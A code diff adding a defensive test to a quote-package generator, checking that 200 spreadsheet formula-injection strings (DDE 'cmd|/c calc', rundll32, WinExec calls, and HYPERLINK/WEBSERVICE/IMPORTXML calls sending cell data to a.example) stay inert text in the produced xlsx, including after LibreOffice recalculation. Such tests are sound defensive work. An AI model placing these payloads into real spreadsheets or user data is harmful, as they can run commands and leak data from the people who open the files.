@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import re
+from collections import Counter
 from collections.abc import Iterator
 from html import unescape
 from pathlib import Path
@@ -16,6 +17,7 @@ from here import run_here
 from workspace import NOW, make_workspace
 
 from bidkit.build import Options, make_package
+from bidkit.office import recalculate
 
 FORMULAS = (
     *("=cmd|'/c calc'!A0", '=HYPERLINK("http://a.example/?"&A1,"x")', "+1+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0"),
@@ -98,3 +100,33 @@ def test_no_text_of_a_deal_steers_the_terminal(deal: Path) -> None:
     done = run_here(deal.parents[2], ("check", "--lang", "en", str(path)), {})
     assert done.returncode == 1
     assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", done.stdout + done.stderr)
+
+
+STARTS = ("=", "+", "-", "@", "==", "=-", "＝", "{=", "'=", '"=')
+BODIES = (
+    *("cmd|'/c calc'!A0", "1+1", 'HYPERLINK("http://a.example/?"&A1,"x")', 'WEBSERVICE("http://a.example")', "A1"),
+    *('DDE("cmd";"/c calc";"x")', "rundll32|'URL.dll,OpenURL x'!A", 'IMAGE("http://a.example/x.png")', "SUM(1,1)*2"),
+    *("MSEXCEL|'\\..\\..\\cmd.exe'!''", 'INDIRECT("A1")', 'IMPORTXML("http://a.example","//a")', "NOW()", "1e9"),
+    *('RTD("x",,"y")', 'CALL("kernel32","WinExec","JC","calc")', 'REGISTER("a","b")', "'file:///c:/x.xls'#$A.A1"),
+    *('FILTERXML("<a/>","//a")', "IFERROR(1/0,2)"),
+)
+
+
+@pytest.mark.office
+def test_200_texts_that_programs_might_compute_stay_texts_in_libreoffice(tmp_path: Path) -> None:
+    texts = [start + body for start in STARTS for body in BODIES]
+    assert len(texts) == 200
+    lines = [LINE | {"id": f"L{at:03}", "name": text, "spec": text} for at, text in enumerate(texts)]
+    changes = {"quote__categories": [{"id": "A", "name": "硬件"}], "quote__lines": lines, "quote__total": None}
+    deal = make_workspace(tmp_path, "commercial", **changes, quote__total_words=None)
+    result, files = make_package(deal, Options(now=NOW, is_draft=True))
+    assert files is not None, [item.message("en") for item in result.diagnostics]
+    again, problems = recalculate(files["submit/quote-DRAFT.xlsx"])
+    assert again is not None, problems
+    for content in (files["submit/quote-DRAFT.xlsx"], again):
+        cells = [*list_cells({"submit/quote-DRAFT.xlsx": content})]
+        held = Counter(cell.value for cell in cells if cell.data_type == "s")
+        assert [text for text in texts if held[text] < 2] == []
+        assert not [
+            cell.value for cell in cells if cell.data_type == "f" and re.search(r"a\.example|cmd|calc", cell.value)
+        ]
